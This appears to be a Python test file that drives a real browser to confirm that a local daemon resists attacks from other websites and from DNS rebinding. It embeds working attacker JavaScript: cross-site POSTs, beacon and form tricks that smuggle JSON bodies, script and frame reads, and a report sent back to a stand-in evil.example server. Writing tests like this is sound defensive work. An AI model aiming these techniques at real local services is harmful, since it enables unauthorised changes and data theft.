"""The guard against browsers, in a real one: a page of another site, and DNS rebinding.

Both reach the daemon on loopback, as they would on a user's machine. None of their requests has an
effect, and no answer tells them anything.
"""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import orjson
import pytest
from aiohttp import web
from chromium import open_page, require_browser
from daemon import Daemon, daemon, submit, until
from preset_waits import get

pytestmark = pytest.mark.slow
EVIL = "evil.example"
RULES = f"MAP {EVIL} 127.0.0.1"
MARKER = "secret-label"
ENDPOINT = {"endpoint": "http://127.0.0.1:9/never"}
OUR_WAIT = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"marker": MARKER}}
ATTACKERS_WAIT = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"from": "evil"}}

#: Functions of both pages: `attempt` records a result, `report` sends all results home.
COMMON = """
const results = {};
async function attempt(name, work) {
  try { results[name] = String(await work()); } catch (error) { results[name] = "error " + error.name; }
}
async function request(path, options) {
  const answer = await fetch(DAEMON + path, options);
  return [answer.type, answer.status, await answer.text()].join(" ");
}
async function loaded(element) {
  return await new Promise((done) => {
    element.onload = () => done("load");
    element.onerror = () => done("error");
    document.body.append(element);
  });
}
async function report() { await fetch(HOME + "/report", {method: "POST", body: JSON.stringify(results)}); }
"""
CROSS_SITE = """
async function main() {
  const text = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
  await attempt("simple post", () => request("/v1/waits", {method: "POST", mode: "no-cors", headers: text, body: WAIT}));
  await attempt("json post", () => request("/v1/waits", {method: "POST", headers: json, body: WAIT}));
  await attempt("batch", () => request("/v1/waits:batch", {method: "POST", mode: "no-cors", body: WAIT}));
  await attempt("cancel", () => request("/v1/waits/" + ID + ":cancel", {method: "POST", mode: "no-cors"}));
  await attempt("read", () => request("/v1/waits"));
  await attempt("opaque read", () => request("/v1/waits", {mode: "no-cors"}));
  await attempt("metrics", () => request("/metrics"));
  await attempt("beacon", () => navigator.sendBeacon(DAEMON + "/v1/waits", new Blob([WAIT], {type: "text/plain"})));
  await attempt("events", () => new Promise((done) => {
    const events = new EventSource(DAEMON + "/v1/events");
    events.onopen = events.onmessage = () => done("open");
    events.onerror = () => { events.close(); done("error"); };
  }));
  await attempt("script", async () => {
    let error = "";
    window.onerror = (message) => { error = message; };
    const script = document.createElement("script");
    script.src = DAEMON + "/v1/waits";
    return (await loaded(script)) + " " + error;
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = DAEMON + "/v1/waits";
    await loaded(frame);
    return frame.contentDocument === null ? "nothing" : frame.contentDocument.body.innerText;
  });
  for (const [name, path, value] of [["form", "/v1/waits", WAIT], ["cancelling form", "/v1/waits/" + ID + ":cancel", ""]])
    await attempt(name, async () => {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = name;
      document.body.append(frame, form);
      const [before, after] = [value.slice(0, -1) + ', "idempotency_key": "', '"}'];
      form.append(Object.assign(document.createElement("input"), {name: value && before, value: value && after}));
      Object.assign(form, {method: "post", enctype: "text/plain", action: DAEMON + path, target: name});
      const done = new Promise((resolve) => { frame.onload = () => resolve(frame.contentDocument === null ? "nothing" : "readable"); });
      form.submit();
      return await done;
    });
  await report();
}
window.addEventListener("load", main);
"""
REBOUND = """
async function main() {
  await fetch(HOME + "/rebound");
  const json = {"Content-Type": "application/json"};
  await attempt("post", () => request("/v1/waits", {method: "POST", headers: json, body: WAIT}));
  await attempt("cancel", () => request("/v1/waits/" + ID + ":cancel", {method: "POST"}));
  await attempt("read", () => request("/v1/waits"));
  await attempt("metrics", () => request("/metrics"));
  await attempt("alive", () => request("/livez"));
  await attempt("documents", () => request("/openapi.json"));
  await report();
}
window.addEventListener("load", main);
"""


class Attacker:
    """The attacker's server: it serves a page, and receives the page's report."""

    def __init__(self) -> None:
        self.page = ""
        self.url = ""
        self.page_loaded = asyncio.Event()
        self.rebound = asyncio.Event()
        self.report: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def serve_page(self, _: web.Request) -> web.Response:
        return web.Response(text=self.page, content_type="text/html")

    async def wait_for_rebinding(self, _: web.Request) -> web.Response:
        self.page_loaded.set()
        await self.rebound.wait()
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    async def receive_report(self, request: web.Request) -> web.Response:
        self.report.set_result(orjson.loads(await request.read()))
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    def build_page(self, script: str, **constants: Any) -> None:
        """Builds the page from a script and the constants that it uses."""
        definitions = "".join(
            f"const {name} = {orjson.dumps(value).decode()};" for name, value in constants.items()
        )
        self.page = f"<!doctype html><body><script>{definitions}{COMMON}{script}</script>"

    @asynccontextmanager
    async def serving(self) -> AsyncIterator[str]:
        """Serves the page, and yields its URL under the attacker's name."""
        application = web.Application()
        application.router.add_get("/", self.serve_page)
        application.router.add_get("/rebound", self.wait_for_rebinding)
        application.router.add_post("/report", self.receive_report)
        runner = web.AppRunner(application, access_log=None, shutdown_timeout=0.1)
        await runner.setup()
        try:
            await web.TCPSite(runner, "127.0.0.1", 0).start()
            yield f"http://{EVIL}:{runner.addresses[0][1]}"
        finally:
            await runner.cleanup()


@pytest.fixture(autouse=True, scope="module")
def _browser() -> None:
    require_browser()


async def check_nothing_changed(client: aiohttp.ClientSession, waitd: Daemon, wait_id: str) -> None:
    waits = (await get(f"{waitd.url}/v1/waits"))["waits"]
    assert [(wait["id"], wait["state"]) for wait in waits] == [(wait_id, "waiting")]


def answered_requests(waitd: Daemon) -> set[tuple[str, str, int]]:
    """The method, last path segment and status of every request that the daemon logged."""
    return {
        (line["method"], line["path"].rpartition("/")[2].rpartition(":")[2], line["status"])
        for line in waitd.log
        if line.get("event") == "request" and "path" in line
    }


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
async def test_a_page_of_another_site_changes_nothing_and_reads_nothing(tmp_path: Path, host: str) -> None:
    attacker = Attacker()
    async with (
        daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug") as waitd,
        aiohttp.ClientSession() as client,
        attacker.serving() as home,
    ):
        wait_id = await submit(client, waitd, OUR_WAIT)
        await until(
            lambda: ("POST", "waits", 201) in answered_requests(waitd)
        )  # our own request is logged before the attack starts
        before = len(waitd.log)
        url = f"http://{host}:{urlsplit(waitd.url).port}"
        attacker.build_page(
            CROSS_SITE, DAEMON=url, HOME=home, ID=wait_id, WAIT=orjson.dumps(ATTACKERS_WAIT).decode()
        )
        async with open_page(home + "/", tmp_path / "profile", resolver_rules=RULES), asyncio.timeout(60):
            results = await attacker.report
        del waitd.log[:before]
        await check_nothing_changed(client, waitd, wait_id)
        assert MARKER not in str(results)
        assert results == {
            "simple post": "error TypeError",
            "json post": "error TypeError",
            "batch": "error TypeError",
            "cancel": "error TypeError",
            "read": "error TypeError",
            "opaque read": "error TypeError",
            "metrics": "error TypeError",
            "beacon": "true",
            "events": "error",
            "script": "error ",
            "frame": "nothing",
            "form": "nothing",
            "cancelling form": "nothing",
        }
        answered = answered_requests(waitd)
        assert {("POST", "waits", 403), ("POST", "batch", 403), ("POST", "cancel", 403)} <= answered
        assert {status for method, _, status in answered if method != "GET"} == {403}


async def test_a_name_rebound_to_the_daemon_is_refused(tmp_path: Path) -> None:
    page, home = Attacker(), Attacker()
    async with AsyncExitStack() as stack:
        home_url = await stack.enter_async_context(home.serving())
        client = await stack.enter_async_context(aiohttp.ClientSession())
        waitd = Daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug")
        await waitd.start()
        stack.push_async_callback(waitd.kill)
        wait_id = await submit(client, waitd, OUR_WAIT)
        await waitd.kill()
        async with page.serving() as url:
            page.build_page(
                REBOUND, DAEMON="", HOME=home_url, ID=wait_id, WAIT=orjson.dumps(ATTACKERS_WAIT).decode()
            )
            await stack.enter_async_context(open_page(url + "/", tmp_path / "profile", resolver_rules=RULES))
            async with asyncio.timeout(60):
                await home.page_loaded.wait()
        # From here on, the attacker's name and port lead to the daemon.
        port = urlsplit(url).port
        await waitd.start(WAITD_BIND=f"127.0.0.1:{port}")
        before = len(waitd.log)
        home.rebound.set()
        async with asyncio.timeout(60):
            results = await home.report
        del waitd.log[:before]
        await check_nothing_changed(client, waitd, wait_id)
        assert MARKER not in str(results)
        for answer in results.values():
            kind, status, body = answer.split(" ", 2)
            assert (kind, status) == ("basic", "421")
            assert orjson.loads(body)["type"] == "/problems/misdirected"
        assert {("POST", "waits", 421), ("GET", "waits", 421), ("GET", "metrics", 421)} <= answered_requests(
            waitd
        )
